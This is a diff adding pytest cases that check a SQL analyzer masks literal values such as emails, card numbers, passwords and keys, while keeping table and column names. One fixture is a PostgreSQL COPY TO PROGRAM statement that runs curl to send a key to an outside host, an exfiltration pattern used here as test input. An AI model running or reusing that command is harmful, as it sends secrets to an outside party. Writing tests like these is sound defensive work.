@@ -95,3 +95,25 @@ def test_deep_nesting_is_refused_not_a_crash() -> None:
     assert analyze("SELECT " + "1+" * 3000 + "1").kinds == ("SELECT",)
     with pytest.raises(SqlError, match="deeply nested"):
         analyze("SELECT " + "1+" * 8000 + "1")
+
+
+@pytest.mark.parametrize(("sql", "secret"), [
+    ("EXECUTE p('ann@example.com', 4111111111111111)", "ann@example.com"),
+    ("EXECUTE p('ann@example.com', 4111111111111111)", "4111111111111111"),
+    ("COPY t TO PROGRAM 'curl http://x/?k=sk-live-123'", "sk-live-123"),
+    ("NOTIFY ch, 'payload-secret'", "payload-secret"),
+    ("COMMENT ON TABLE t IS 'bob@example.com'", "bob@example.com"),
+    ("CREATE TABLE t1 (a text DEFAULT E'd\\'x@e.f')", "x@e.f"),
+    ("PREPARE p AS SELECT $q$q@w.e$q$, $1", "q@w.e"),
+    ("SELECT 1 -- card 4111111111111111", "4111111111111111"),
+    ("SELECT /* a@b.c /* nested */ */ 1", "a@b.c"),
+    ("CREATE USER bob PASSWORD 'hunter2'", "hunter2"),
+    ("SELECT * FROM t WHERE email = 'ann@example.com'", "ann@example.com"),
+])
+def test_masked_sql_keeps_no_value(sql: str, secret: str) -> None:
+    assert secret not in analyze(sql).masked
+
+
+def test_masked_sql_keeps_names_and_parameters() -> None:
+    m = analyze('SELECT t1.a2, "Col 9" FROM s3.t1 WHERE id = $1 LIMIT 10').masked
+    assert "t1.a2" in m and '"Col 9"' in m and "s3.t1" in m and "$1" in m and "10" not in m
